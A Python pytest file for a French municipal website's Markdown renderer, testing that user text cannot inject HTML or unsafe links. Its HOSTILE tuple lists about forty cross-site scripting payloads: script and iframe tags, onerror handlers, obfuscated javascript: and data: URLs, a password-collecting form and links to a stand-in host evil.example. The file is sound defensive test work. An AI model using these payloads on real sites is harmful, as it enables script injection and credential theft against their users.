"""What the mairie writes in Markdown, and what nobody gets through it."""

import re

import pytest

from web.page.markdown import TAGS, markdown

# Each with a way to run something, to load something, to look like something else, or to leave its place in the page.
HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<b onmouseover=alert(1)>gras</b>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=mot_de_passe></form>",
    "<a href=javascript:alert(1)>ici</a>",
    "</div></main><h1>Fermé</h1>",
    "<!-- --><script>alert(1)</script>",
    "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    "[ici](javascript:alert(1))",
    "[ici](JaVaScRiPt:alert(1))",
    "[ici](java\tscript:alert(1))",
    "[ici](&#106;avascript:alert(1))",
    "[ici](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[ici](<javascript:alert(1)>)",
    "[ici]( javascript&colon;alert(1))",
    "[ici](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[ici](vbscript:msgbox(1))",
    "[ici](file:///etc/passwd)",
    "[ici](//evil.example)",
    "[ici](/\\evil.example)",
    "![ici](javascript:alert(1))",
    "![ici](https://evil.example/pixel.gif)",
    '[ici](https://evil.example "x" onclick=alert(1))',
    '[ici](https://evil.example/"onmouseover="alert(1))',
    "[ici][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://evil.example>",
    "# Titre\n\n```\n<script>alert(1)</script>\n```",
    "**[<img src=x onerror=alert(1)>](/menus)**",
    "- <script>alert(1)</script>\n- [x](data:,x)",
    "\u202e[ici](javascript:alert(1))",
    "`<script>` et ~~rien~~ | a | b |",
)
TAG = re.compile(r"<(/?)([a-z0-9]+)((?:\s[^>]*)?)>")
LINK = re.compile(r' href="((?:https?://|mailto:|tel:|/(?![/\\]))[^"<>]*)" rel="noopener noreferrer"')


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_through(text: str) -> None:
    written = str(markdown(text))
    rest = TAG.sub("", written)
    assert "<" not in rest and ">" not in rest.replace("&gt;", "")
    for closing, name, said in TAG.findall(written):
        assert name in TAGS, written
        assert said == "" if closing or name != "a" else LINK.fullmatch(said), written


def test_there_are_enough_of_them() -> None:
    assert len(set(HOSTILE)) >= 30


def test_what_is_offered_works() -> None:
    written = str(
        markdown(
            "Un **mot** *dit*.\nPuis\n\n1. un\n2. deux\n\n- [menus](/menus)\n- [nous](mailto:a@b.example)"
        )
    )
    for part in (
        "<p>Un <strong>mot</strong> <em>dit</em>.<br>",
        "<ol>\n<li>un</li>",
        '<a href="/menus"',
        '<a href="mailto:a@b.example"',
    ):
        assert part in written, written


@pytest.mark.parametrize("text", ["# Titre", "`code`", "> dit", "| a | b |", "~~barré~~", "---"])
def test_what_is_not_offered_stays_as_it_was_typed(text: str) -> None:
    assert str(markdown(text)).strip() == f"<p>{text.replace('>', '&gt;')}</p>"


def test_a_very_long_text_is_drawn() -> None:
    assert str(markdown("**a** [b](/c) " * 1000)).count("<strong>") == 1000
    assert len(str(markdown("[" * 5000 + "*" * 5000))) >= 10_000
